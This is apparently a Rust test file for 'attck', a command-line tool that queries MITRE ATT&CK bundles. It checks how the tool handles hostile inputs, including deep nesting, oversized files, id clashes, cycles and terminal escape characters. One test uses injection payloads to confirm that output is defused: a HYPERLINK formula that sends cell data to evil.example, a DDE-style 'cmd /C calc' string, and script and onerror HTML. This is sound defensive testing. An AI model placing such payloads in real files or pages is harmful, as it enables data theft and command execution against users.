//! Hostile bundles and inputs: deep nesting, huge files, duplicate and dangling ids, cycles,
//! ID clashes and terminal escapes. Each is generated here, loaded with `--bundle`, once with
//! `--no-cache` and once through the index cache, and must end in an answer or one clear line.

use std::fs;
use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use crate::common::{Run, attck_in, run_with};
use crate::contract;

/// A temporary home (for the cache) and directory holding generated files.
struct Env {
    dir: tempfile::TempDir,
}

impl Env {
    fn new() -> Env {
        Env {
            dir: tempfile::tempdir().unwrap(),
        }
    }

    fn write(&self, name: &str, bytes: &[u8]) -> PathBuf {
        let p = self.dir.path().join(name);
        fs::write(&p, bytes).unwrap();
        p
    }

    fn bundle(&self, name: &str, objects: &[Value]) -> PathBuf {
        let b = json!({"type": "bundle", "id": "bundle--1", "objects": objects});
        self.write(name, serde_json::to_string(&b).unwrap().as_bytes())
    }

    /// Runs `attck --bundle FILE [--no-cache] args...`; the cache lives in this env's home.
    fn run(&self, bundle: &Path, cached: bool, args: &[&str]) -> Run {
        let mut v = vec!["--bundle", bundle.to_str().unwrap()];
        if !cached {
            v.push("--no-cache");
        }
        v.extend_from_slice(args);
        run_with(attck_in(&self.dir.path().join("home")), &v)
    }

    /// The same command with `--no-cache`, then twice through the cache (building it, then
    /// reading it): all three must print the same.
    fn run_all(&self, bundle: &Path, args: &[&str]) -> Run {
        let plain = self.run(bundle, false, args);
        for _ in 0..2 {
            let cached = self.run(bundle, true, args);
            assert_eq!(cached.code, plain.code, "{args:?}: {}", cached.stderr);
            assert_eq!(cached.stdout, plain.stdout, "{args:?}");
            // `-v` notes the cache being built; everything else on stderr must match.
            let stderr: String = cached
                .stderr
                .lines()
                .filter(|l| !l.starts_with("attck: no index cache for"))
                .flat_map(|l| [l, "\n"])
                .collect();
            assert_eq!(stderr, plain.stderr, "{args:?}");
        }
        plain
    }
}

fn ext(id: &str) -> Value {
    json!([{"source_name": "mitre-attack", "external_id": id,
            "url": format!("https://attack.mitre.org/{id}")}])
}

/// A matrix with one tactic, `execution` (TA0002).
fn base() -> Vec<Value> {
    vec![
        json!({"type": "x-mitre-matrix", "id": "x-mitre-matrix--1", "name": "Enterprise ATT&CK",
               "external_references": ext("enterprise-attack"),
               "tactic_refs": ["x-mitre-tactic--1"]}),
        json!({"type": "x-mitre-tactic", "id": "x-mitre-tactic--1", "name": "Execution",
               "x_mitre_shortname": "execution", "external_references": ext("TA0002")}),
    ]
}

fn technique(stix: &str, id: &str, name: &str) -> Value {
    json!({"type": "attack-pattern", "id": stix, "name": name, "description": "d",
           "modified": "2020-01-01T00:00:00.000Z", "x_mitre_is_subtechnique": id.contains('.'),
           "kill_chain_phases": [{"kill_chain_name": "mitre-attack", "phase_name": "execution"}],
           "external_references": ext(id)})
}

fn with(mut v: Value, key: &str, value: Value) -> Value {
    v[key] = value;
    v
}

fn rel(n: u32, kind: &str, src: &str, dst: &str) -> Value {
    json!({"type": "relationship", "id": format!("relationship--{n}"), "relationship_type": kind,
           "source_ref": src, "target_ref": dst})
}

/// A clean failure: exit 2, nothing on stdout, one `attck: ` line containing `needle`.
fn assert_one_line_error(r: &Run, needle: &str) {
    assert_eq!(r.code, 2, "stderr: {}", r.stderr);
    assert!(r.stdout.is_empty(), "stdout: {}", r.stdout);
    assert_eq!(r.stderr.lines().count(), 1, "one line: {}", r.stderr);
    assert!(r.stderr.starts_with("attck: "), "{}", r.stderr);
    assert!(
        r.stderr.contains(needle),
        "expected '{needle}' in: {}",
        r.stderr
    );
    assert!(!r.stderr.contains("panicked"), "{}", r.stderr);
}

fn deep(n: usize) -> String {
    format!("{}{}", "[".repeat(n), "]".repeat(n))
}

#[test]
fn deeply_nested_json_is_one_line_or_a_clean_load() {
    let env = Env::new();
    let head = serde_json::to_string(&base()).unwrap();
    let head = &head[1..head.len() - 1];
    let tech = |extra: &str| {
        format!(
            r#"{{"type":"bundle","objects":[{head},{{"type":"attack-pattern","id":"attack-pattern--1","name":"Deep","external_references":[{{"source_name":"mitre-attack","external_id":"T1000"}}],{extra}}}]}}"#
        )
    };
    // Where attck expects a string: a type error, found without descending.
    let p = env.write(
        "desc.json",
        tech(&format!(r#""description":{}"#, deep(100_000))).as_bytes(),
    );
    for cached in [false, true] {
        let r = env.run(&p, cached, &["technique", "T1000"]);
        assert_one_line_error(
            &r,
            "not a STIX bundle (invalid type: sequence, expected a string",
        );
        assert!(r.stderr.contains("desc.json"), "{}", r.stderr);
    }
    // No structure attck reads nests: a list of lists is a type error at the second level.
    let p = env.write(
        "kcp.json",
        tech(&format!(r#""kill_chain_phases":{}"#, deep(100_000))).as_bytes(),
    );
    for cached in [false, true] {
        let r = env.run(&p, cached, &["technique", "T1000"]);
        assert_one_line_error(&r, "not a STIX bundle (invalid type: sequence");
    }
    // The whole file one deep array; the same left open.
    let p = env.write("array.json", deep(100_000).as_bytes());
    assert_one_line_error(
        &env.run(&p, false, &["tactics"]),
        "not a STIX bundle (invalid type: sequence",
    );
    let p = env.write("open.json", "[".repeat(100_000).as_bytes());
    assert_one_line_error(
        &env.run(&p, false, &["tactics"]),
        "not a STIX bundle (invalid type: sequence",
    );
    let p = env.write(
        "open-obj.json",
        format!(
            r#"{{"type":"bundle","objects":[],"x":{}"#,
            "[".repeat(100_000)
        )
        .as_bytes(),
    );
    assert_one_line_error(&env.run(&p, true, &["tactics"]), "truncated JSON");
    // In properties attck does not read: skipped without recursion, so the bundle loads.
    let text = tech(&format!(
        r#""x_extra":{},"x_obj":{}{}"#,
        deep(100_000),
        r#"{"a":"#.repeat(100_000) + "1",
        "}".repeat(100_000)
    ));
    let text = text.replacen(
        r#"{"type":"bundle","#,
        &format!(r#"{{"type":"bundle","x_top":{},"#, deep(100_000)),
        1,
    );
    let p = env.write("extra.json", text.as_bytes());
    let r = env.run_all(&p, &["technique", "T1000", "-f", "json"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let t: contract::Technique = r.json();
    assert_eq!((t.id.as_str(), t.name.as_str()), ("T1000", "Deep"));
}

#[test]
fn a_bundle_of_more_objects_than_the_limit_is_refused() {
    let env = Env::new();
    let max = attck_explorer::stix::MAX_OBJECTS;
    assert_eq!(max, 250_000, "the README documents 250,000");
    // Empty objects, three bytes each: the file is small, the count is what is refused.
    let many = |n: usize| {
        format!(
            "{{\"type\":\"bundle\",\"objects\":[{}]}}",
            vec!["{}"; n].join(",")
        )
    };
    let p = env.write("enterprise-attack.json", many(max + 1).as_bytes());
    let r = env.run(&p, false, &["tactics"]);
    assert_one_line_error(
        &r,
        &format!("too many objects: more than {max}, the most attck reads from one bundle"),
    );
    // At the limit it is not the count that stops it (no matrix, so no tactics: a warning).
    let p = env.write("enterprise-attack.json", many(max).as_bytes());
    let r = env.run(&p, false, &["tactics"]);
    assert!(!r.stderr.contains("too many objects"), "{}", r.stderr);
}

#[test]
fn a_bundle_over_the_size_limit_is_refused_before_it_is_read() {
    let env = Env::new();
    let max = attck_explorer::stix::MAX_FILE_BYTES;
    assert_eq!(max, 256 << 20, "the README documents 256 MiB");
    // A sparse file: costs no disk and, since it is never read, no time. Were it read, its
    // zero bytes would be reported as invalid JSON instead.
    let p = env.dir.path().join("enterprise-attack.json");
    fs::File::create(&p).unwrap().set_len(max + 1).unwrap();
    for cached in [false, true] {
        let r = env.run(&p, cached, &["tactics"]);
        assert_one_line_error(
            &r,
            "is too large (257 MiB; attck reads files of at most 256 MiB)",
        );
        assert!(r.stderr.contains("enterprise-attack.json"), "{}", r.stderr);
    }
    // The same for files given to other commands: map's text, a technique list, a layer to
    // upgrade, a Sigma rule in a directory (skipped with a note, like an unreadable one).
    let sample = crate::common::sample_dir().join("enterprise-attack-2.0.json");
    let sample = sample.to_str().unwrap();
    let huge = env.dir.path().join("huge.txt");
    fs::File::create(&huge).unwrap().set_len(max + 1).unwrap();
    let huge = huge.to_str().unwrap();
    let home = env.dir.path().join("home");
    for args in [
        vec!["map", huge],
        vec!["coverage", huge],
        vec!["layer", "--ids", huge],
    ] {
        let mut v = vec!["--bundle", sample, "--no-cache"];
        v.extend_from_slice(&args);
        let r = run_with(attck_in(&home), &v);
        assert_one_line_error(&r, "huge.txt is too large (257 MiB");
    }
    let samples = crate::common::sample_dir();
    let samples = samples.to_str().unwrap();
    {
        let v = [
            "--data-dir",
            samples,
            "--no-cache",
            "layer",
            "upgrade",
            huge,
        ];
        let r = run_with(attck_in(&home), &v);
        assert_one_line_error(&r, "huge.txt is too large (257 MiB");
    }
    let rules = env.dir.path().join("rules");
    fs::create_dir(&rules).unwrap();
    fs::File::create(rules.join("big.yml"))
        .unwrap()
        .set_len(max + 1)
        .unwrap();
    fs::write(
        rules.join("ok.yml"),
        "title: t\ntags:\n  - attack.t1059.001\n",
    )
    .unwrap();
    let r = run_with(
        attck_in(&home),
        &[
            "--bundle",
            sample,
            "--no-cache",
            "coverage",
            rules.to_str().unwrap(),
            "-f",
            "json",
        ],
    );
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(
        r.stderr.contains("big.yml is too large (257 MiB") && r.stderr.contains("skipped"),
        "{}",
        r.stderr
    );
}

#[test]
fn duplicate_stix_ids_keep_the_most_recently_modified_in_either_order() {
    let env = Env::new();
    let old = with(
        technique("attack-pattern--1", "T1000", "Old name"),
        "modified",
        json!("2020-01-01T00:00:00.000Z"),
    );
    let new = with(
        technique("attack-pattern--1", "T1000", "New name"),
        "modified",
        json!("2024-06-01T00:00:00.000Z"),
    );
    for (file, order) in [
        ("old-first.json", [old.clone(), new.clone()]),
        ("new-first.json", [new.clone(), old.clone()]),
    ] {
        let mut objects = base();
        objects.extend(order);
        let p = env.bundle(file, &objects);
        let r = env.run_all(&p, &["technique", "T1000", "-f", "json"]);
        assert_eq!(r.code, 0, "{}", r.stderr);
        let t: contract::Technique = r.json();
        assert_eq!(t.name, "New name", "{file}");
        assert_eq!(t.modified.as_deref(), Some("2024-06-01T00:00:00.000Z"));
        let r = env.run_all(&p, &["list", "techniques", "-f", "json"]);
        let rows: Vec<contract::Row> = r.json();
        assert_eq!(rows.len(), 1, "{file}: the duplicate is dropped");
        let r = env.run(&p, false, &["-v", "tactics"]);
        assert!(
            r.stderr.contains("1 object(s) repeat a STIX id"),
            "{}",
            r.stderr
        );
    }
    // Equally recent: the first in the file, whatever the rest says.
    let a = technique("attack-pattern--1", "T1000", "First in file");
    let b = technique("attack-pattern--1", "T1000", "Second in file");
    let mut objects = base();
    objects.extend([a, b]);
    let p = env.bundle("tie.json", &objects);
    let t: contract::Technique = env
        .run_all(&p, &["technique", "T1000", "-f", "json"])
        .json();
    assert_eq!(t.name, "First in file");
}

#[test]
fn dangling_relationships_are_ignored() {
    let env = Env::new();
    let mut objects = base();
    objects.extend([
        technique("attack-pattern--1", "T1000", "Kept"),
        json!({"type": "intrusion-set", "id": "intrusion-set--1", "name": "Lonely Group",
               "external_references": ext("G0001")}),
        rel(1, "uses", "intrusion-set--1", "attack-pattern--missing"),
        rel(2, "uses", "intrusion-set--missing", "attack-pattern--1"),
        rel(
            3,
            "mitigates",
            "course-of-action--missing",
            "attack-pattern--1",
        ),
        rel(
            4,
            "subtechnique-of",
            "attack-pattern--1",
            "attack-pattern--missing",
        ),
        rel(
            5,
            "revoked-by",
            "attack-pattern--1",
            "attack-pattern--missing",
        ),
        json!({"type": "relationship", "id": "relationship--6", "relationship_type": "uses"}),
        rel(7, "uses", "intrusion-set--1", "attack-pattern--1"),
    ]);
    let p = env.bundle("dangling.json", &objects);
    let r = env.run_all(&p, &["technique", "T1000", "-f", "json"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    let t: contract::Technique = r.json();
    assert_eq!(t.name, "Kept");
    assert!(t.parent.is_none() && t.revoked_by.is_none() && t.mitigations.is_empty());
    let groups: Vec<&str> = t.groups.iter().map(|g| g.id.as_str()).collect();
    assert_eq!(
        groups,
        ["G0001"],
        "only the relationship with two real ends"
    );
    let r = env.run_all(&p, &["show", "G0001", "-f", "json"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.contains("T1000"), "{}", r.stdout);
    let r = env.run(&p, false, &["-v", "technique", "T1000"]);
    assert_eq!(r.code, 0);
    assert!(
        r.stderr
            .contains("dangling.json: 6 reference(s) point at objects not in the bundle"),
        "{}",
        r.stderr
    );
}

#[test]
fn subtechnique_and_revocation_cycles_terminate() {
    let env = Env::new();
    let mut objects = base();
    objects.extend([
        // Sub-technique cycles: A sub-of B, B sub-of A; C sub-of itself.
        technique("attack-pattern--a", "T1100.001", "Sub A"),
        technique("attack-pattern--b", "T1100.002", "Sub B"),
        technique("attack-pattern--c", "T1100.003", "Sub C"),
        rel(
            1,
            "subtechnique-of",
            "attack-pattern--a",
            "attack-pattern--b",
        ),
        rel(
            2,
            "subtechnique-of",
            "attack-pattern--b",
            "attack-pattern--a",
        ),
        rel(
            3,
            "subtechnique-of",
            "attack-pattern--c",
            "attack-pattern--c",
        ),
        // Two techniques each other's parents (neither flagged as a sub-technique).
        technique("attack-pattern--p", "T1200", "Parent P"),
        technique("attack-pattern--q", "T1201", "Parent Q"),
        rel(
            4,
            "subtechnique-of",
            "attack-pattern--p",
            "attack-pattern--q",
        ),
        rel(
            5,
            "subtechnique-of",
            "attack-pattern--q",
            "attack-pattern--p",
        ),
        // Revocation cycles: D revoked-by E, E revoked-by D; F revoked-by itself.
        with(
            technique("attack-pattern--d", "T1300", "Revoked D"),
            "revoked",
            json!(true),
        ),
        with(
            technique("attack-pattern--e", "T1301", "Revoked E"),
            "revoked",
            json!(true),
        ),
        with(
            technique("attack-pattern--f", "T1302", "Revoked F"),
            "revoked",
            json!(true),
        ),
        rel(6, "revoked-by", "attack-pattern--d", "attack-pattern--e"),
        rel(7, "revoked-by", "attack-pattern--e", "attack-pattern--d"),
        rel(8, "revoked-by", "attack-pattern--f", "attack-pattern--f"),
    ]);
    let p = env.bundle("cycles.json", &objects);
    for id in ["T1100.001", "T1100.002", "T1100.003", "T1200", "T1201"] {
        let r = env.run_all(&p, &["technique", id, "-f", "json"]);
        assert_eq!(r.code, 0, "{id}: {}", r.stderr);
        let t: contract::Technique = r.json();
        // A sub-technique's parent is never itself a sub-technique; T1100 does not exist.
        assert!(t.parent.is_none(), "{id}: {:?}", t.parent);
        assert!(t.subtechniques.is_empty(), "{id}: {:?}", t.subtechniques);
    }
    for (id, replacement) in [
        ("T1300", Some("T1301")),
        ("T1301", Some("T1300")),
        ("T1302", None),
    ] {
        let r = env.run_all(&p, &["technique", id, "-f", "json"]);
        assert_eq!(r.code, 0, "{id}: {}", r.stderr);
        let t: contract::Technique = r.json();
        assert!(t.revoked, "{id}");
        assert_eq!(
            t.revoked_by.as_ref().map(|r| r.id.as_str()),
            replacement,
            "{id}"
        );
        let r = env.run_all(&p, &["technique", id]);
        assert_eq!(r.code, 0, "{id}: {}", r.stderr);
        assert!(r.stdout.contains("revoked"), "{}", r.stdout);
    }
    // Lists and the matrix terminate too, and hide the revoked ones.
    let r = env.run_all(&p, &["list", "techniques", "-f", "json"]);
    let rows: Vec<contract::Row> = r.json();
    let ids: Vec<&str> = rows.iter().map(|r| r.id.as_str()).collect();
    assert_eq!(
        ids,
        ["T1100.001", "T1100.002", "T1100.003", "T1200", "T1201"]
    );
    assert_eq!(env.run_all(&p, &["matrix", "--subtechniques"]).code, 0);
}

#[test]
fn one_attack_id_on_two_active_techniques_answers_the_newest_and_warns() {
    let env = Env::new();
    let older = with(
        technique("attack-pattern--1", "T1000", "Alpha older"),
        "modified",
        json!("2020-01-01T00:00:00.000Z"),
    );
    let newer = with(
        technique("attack-pattern--2", "T1000", "Zulu newer"),
        "modified",
        json!("2023-01-01T00:00:00.000Z"),
    );
    let warning =
        "names 2 active technique objects; using the most recently modified, 'Zulu newer'";
    for (file, order) in [
        ("older-first.json", [older.clone(), newer.clone()]),
        ("newer-first.json", [newer.clone(), older.clone()]),
    ] {
        let mut objects = base();
        objects.extend(order);
        let p = env.bundle(file, &objects);
        let r = env.run_all(&p, &["technique", "t1000", "-f", "json"]);
        assert_eq!(r.code, 0, "{}", r.stderr);
        let t: contract::Technique = r.json();
        assert_eq!(t.name, "Zulu newer", "{file}");
        assert!(
            r.stderr.contains(&format!("{file}: T1000 {warning}")),
            "{}",
            r.stderr
        );
        assert_eq!(r.stderr.matches(warning).count(), 1, "{}", r.stderr);
        let r = env.run(&p, false, &["--quiet", "technique", "T1000"]);
        assert!(r.stderr.is_empty(), "--quiet silences it: {}", r.stderr);
        // Both objects are listed, once each, in a fixed order (ID, then name).
        let r = env.run_all(&p, &["list", "techniques", "-f", "json"]);
        let rows: Vec<contract::Row> = r.json();
        let names: Vec<&str> = rows.iter().map(|r| r.name.as_str()).collect();
        assert_eq!(names, ["Alpha older", "Zulu newer"], "{file}");
        let r = env.run_all(&p, &["show", "T1000", "-f", "json"]);
        assert_eq!(r.code, 0, "{}", r.stderr);
        assert!(r.stdout.contains("Zulu newer"), "{}", r.stdout);
        assert!(!r.stdout.contains("Alpha older"), "{}", r.stdout);
        let r = env.run_all(&p, &["tactic", "execution", "-f", "json"]);
        assert_eq!(r.code, 0, "{}", r.stderr);
    }
}

/// Every control character, and every bidi control, that must not reach a terminal.
const HOSTILE: &[char] = &[
    '\u{1b}', '\u{7}', '\u{8}', '\r', '\u{9b}', '\u{85}', '\u{202e}', '\u{202d}', '\u{2066}',
    '\u{2069}', '\u{200f}', '\u{0}', '\u{7f}',
];

#[test]
fn control_characters_never_reach_the_terminal_and_survive_in_json() {
    let env = Env::new();
    let name = "Evil\u{1b}[31mRed\u{7}\u{8}\u{8}\r\u{9b}2J\u{202e}gnp.exe\u{0}\u{7f}";
    let description = "Title\u{1b}]0;pwned\u{7} then \u{1b}[2J\u{202d}override\u{2066}iso\u{2069}\u{200f}\u{85}end";
    let group = "Group\u{1b}[5mBlink\u{9b}0m";
    let mut objects = base();
    objects.extend([
        with(
            technique("attack-pattern--1", "T1000", name),
            "description",
            json!(description),
        ),
        json!({"type": "intrusion-set", "id": "intrusion-set--1", "name": group,
               "aliases": [group], "description": description,
               "external_references": ext("G0001")}),
        with(
            rel(1, "uses", "intrusion-set--1", "attack-pattern--1"),
            "description",
            json!(description),
        ),
    ]);
    let p = env.bundle("ansi.json", &objects);
    let commands: [&[&str]; 6] = [
        &["technique", "T1000", "-v"],
        &["list", "techniques"],
        &["tactic", "execution"],
        &["search", "override"],
        &["show", "G0001", "-v"],
        &["matrix"],
    ];
    for cmd in commands {
        for format in ["table", "csv", "markdown", "html"] {
            for color in ["always", "never"] {
                let mut args = cmd.to_vec();
                args.extend(["-f", format, "--color", color]);
                let r = env.run_all(&p, &args);
                assert_eq!(r.code, 0, "{args:?}: {}", r.stderr);
                assert!(
                    r.stdout.contains("Red") || cmd[0] == "show",
                    "{args:?}: {}",
                    r.stdout
                );
                for c in HOSTILE.iter().filter(|&&c| c != '\u{1b}') {
                    assert!(!r.stdout.contains(*c), "{args:?}: {c:?} in {:?}", r.stdout);
                    assert!(!r.stderr.contains(*c), "{args:?}: {c:?} in {:?}", r.stderr);
                }
                // attck's own colours are the only escape sequences: SGR codes it chose.
                if color == "never" {
                    assert!(!r.stdout.contains('\u{1b}'), "{args:?}: {:?}", r.stdout);
                }
                for seq in ["\u{1b}[31mRed", "\u{1b}]0;", "\u{1b}[2J", "\u{1b}[5m"] {
                    assert!(
                        !r.stdout.contains(seq),
                        "{args:?}: {seq:?} in {:?}",
                        r.stdout
                    );
                }
            }
        }
    }
    // JSON keeps the text exactly, escaped: parsing it gives back the original strings.
    let r = env.run_all(
        &p,
        &["technique", "T1000", "-f", "json", "--color", "always"],
    );
    assert!(
        !r.stdout.contains('\u{1b}'),
        "escaped, not raw: {:?}",
        r.stdout
    );
    assert!(r.stdout.contains("\\u001b[31mRed"), "{}", r.stdout);
    let t: contract::Technique = r.json();
    assert_eq!(t.name, name);
    assert_eq!(t.description, description);
    assert_eq!(t.groups[0].name, group);
    let r = env.run_all(&p, &["list", "techniques", "-f", "jsonl"]);
    let row: contract::Row = serde_json::from_str(r.stdout.lines().next().unwrap()).unwrap();
    assert_eq!(row.name, name);
}

/// An endless input has no size to check first: it is read up to the limit, then refused.
#[cfg(target_os = "linux")]
#[test]
fn endless_inputs_are_cut_off_at_the_limit() {
    let env = Env::new();
    let sample = crate::common::sample_dir().join("enterprise-attack-2.0.json");
    let zero = Path::new("/dev/zero");
    let r = env.run(zero, false, &["tactics"]);
    assert_one_line_error(
        &r,
        "/dev/zero is too large (more than 256 MiB; attck reads at most 256 MiB)",
    );
    let r = env.run(&sample, false, &["map", "/dev/zero"]);
    assert_one_line_error(&r, "/dev/zero is too large (more than 256 MiB");
}

#[test]
fn a_bundle_rewritten_in_place_during_queries_never_kills_them() {
    use std::os::unix::process::ExitStatusExt;
    use std::sync::atomic::{AtomicBool, Ordering};
    // Two versions of a 4 MiB bundle (padded with spaces, so the whole file is read) that
    // differ in one technique's name and in size, rewritten in place over and over (as `cp`
    // does: truncate, then write) while 100 queries run, half through the cache.
    let env = Env::new();
    let sample =
        fs::read_to_string(crate::common::sample_dir().join("enterprise-attack-2.0.json")).unwrap();
    assert!(sample.contains("\"Scripted Launch\""));
    let padded = |name: &str, pad: usize| {
        let mut b = sample.replace("\"Scripted Launch\"", name).into_bytes();
        b.resize((4 << 20) + pad, b' ');
        b
    };
    let (a, b) = (
        padded("\"Scripted Launch\"", 0),
        padded("\"Scripted Lbunch\"", 4096),
    );
    let bundle = env.write("enterprise-attack-2.0.json", &a);
    let stop = AtomicBool::new(false);
    let runs: Vec<(String, std::process::Output)> = std::thread::scope(|s| {
        s.spawn(|| {
            while !stop.load(Ordering::Relaxed) {
                for v in [&a, &b] {
                    fs::write(&bundle, v).unwrap();
                }
            }
        });
        let runs = (0..100)
            .map(|i| {
                let mut cmd = attck_in(&env.dir.path().join("home"));
                cmd.args(["--bundle", bundle.to_str().unwrap()]);
                if i % 2 == 0 {
                    cmd.arg("--no-cache");
                }
                let out = cmd
                    .args(["technique", "T1059", "-f", "json"])
                    .output()
                    .unwrap();
                (format!("query {i}"), out)
            })
            .collect();
        stop.store(true, Ordering::Relaxed);
        runs
    });
    let mut answered = 0;
    for (what, out) in &runs {
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            out.status.signal().is_none(),
            "{what} was killed by signal {:?}: {stderr}",
            out.status.signal()
        );
        match out.status.code() {
            Some(0) => {
                let v: Value = serde_json::from_slice(&out.stdout).unwrap();
                assert!(
                    v["name"] == "Scripted Launch" || v["name"] == "Scripted Lbunch",
                    "{what}: {}",
                    v["name"]
                );
                answered += 1;
            }
            Some(2) => {
                assert!(out.stdout.is_empty(), "{what}");
                assert_eq!(stderr.lines().count(), 1, "{what}: {stderr}");
                assert!(stderr.starts_with("attck: "), "{what}: {stderr}");
            }
            other => panic!("{what}: exit {other:?}: {stderr}"),
        }
    }
    // Once the writes stop, the answer is the last bundle's, never a cache of another state.
    let r = env.run(&bundle, true, &["technique", "T1059", "-f", "json"]);
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.contains("Scripted Lbunch"), "{}", r.stdout);
    eprintln!("{answered} of 100 queries answered while the bundle was rewritten");
}

/// The cells of a CSV document (RFC 4180: quoted cells may hold commas, quotes and newlines).
fn csv_cells(text: &str) -> Vec<String> {
    let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                cell.push('"');
                chars.next();
            }
            ('"', _) => quoted = !quoted,
            (',' | '\n', false) => cells.push(std::mem::take(&mut cell)),
            (c, _) => cell.push(c),
        }
    }
    assert!(!quoted, "an unterminated quote in {text:?}");
    cells
}

#[test]
fn formulas_html_and_invisible_characters_from_the_bundle_are_defused() {
    let env = Env::new();
    let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
    let html = "<script>alert(1)</script> and <img src=x onerror=alert(2)>";
    let hidden = "Pass\u{200b}wo\u{200c}r\u{200d}d\u{2060}\u{feff}\u{e0041}\u{e007f}";
    let group = "@SUM(1+1)*cmd|' /C calc'!A0";
    let mut objects = base();
    objects.extend([
        with(
            technique("attack-pattern--1", "T1000", formula),
            "description",
            json!(format!("{html} {hidden}")),
        ),
        with(
            technique("attack-pattern--2", "T1001", "+1-1 sum"),
            "x_mitre_platforms",
            json!(["-2+3", "\t=1+1", "\r@x"]),
        ),
        with(
            technique("attack-pattern--3", "T1002", hidden),
            "description",
            json!(html),
        ),
        json!({"type": "intrusion-set", "id": "intrusion-set--1", "name": group,
               "aliases": [group, "-cmd", hidden], "description": html,
               "external_references": ext("G0001")}),
        with(
            rel(1, "uses", "intrusion-set--1", "attack-pattern--1"),
            "description",
            json!(format!("={html}")),
        ),
        rel(2, "uses", "intrusion-set--1", "attack-pattern--2"),
    ]);
    let p = env.bundle("formulas.json", &objects);
    let ids = env.write("ids.txt", b"T1000\nT1001\n");
    let commands: [&[&str]; 9] = [
        &["technique", "T1000", "-v"],
        &["technique", "T1001"],
        &["list", "techniques"],
        &["list", "groups"],
        &["tactic", "execution"],
        &["search", "sum"],
        &["show", "G0001", "-v"],
        &["matrix"],
        &["coverage", ids.to_str().unwrap()],
    ];
    let invisible = [
        '\u{200b}',
        '\u{200c}',
        '\u{200d}',
        '\u{2060}',
        '\u{feff}',
        '\u{e0041}',
    ];
    for cmd in commands {
        for format in ["csv", "markdown", "table"] {
            let mut args = cmd.to_vec();
            args.extend(["-f", format]);
            let r = env.run_all(&p, &args);
            assert_eq!(r.code, 0, "{args:?}: {}", r.stderr);
            for c in invisible {
                assert!(!r.stdout.contains(c), "{args:?}: {c:?} in {:?}", r.stdout);
            }
            if format == "csv" {
                for cell in csv_cells(&r.stdout) {
                    assert!(
                        !cell
                            .trim_start_matches(' ')
                            .starts_with(['=', '+', '-', '@', '\t', '\r']),
                        "{args:?}: a formula cell {cell:?}"
                    );
                }
                assert!(
                    r.stdout.contains("'=HYPERLINK") || cmd[0] != "technique" || cmd[1] != "T1000",
                    "{args:?}: {}",
                    r.stdout
                );
            }
            if format == "markdown" {
                for raw in ["<script", "<img", "</script"] {
                    assert!(!r.stdout.contains(raw), "{args:?}: {raw} in {}", r.stdout);
                }
            }
        }
    }
    let r = env.run_all(&p, &["technique", "T1000", "-f", "markdown", "-v"]);
    assert!(
        r.stdout.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "{}",
        r.stdout
    );
    assert!(r.stdout.contains("Password"), "{}", r.stdout);
    // JSON keeps the text exactly.
    let r = env.run_all(&p, &["technique", "T1000", "-f", "json"]);
    let t: contract::Technique = r.json();
    assert_eq!(t.name, formula);
    assert_eq!(t.description, format!("{html} {hidden}"));
    let r = env.run_all(&p, &["technique", "T1002", "-f", "json"]);
    let t: contract::Technique = r.json();
    assert_eq!(t.name, hidden);
}
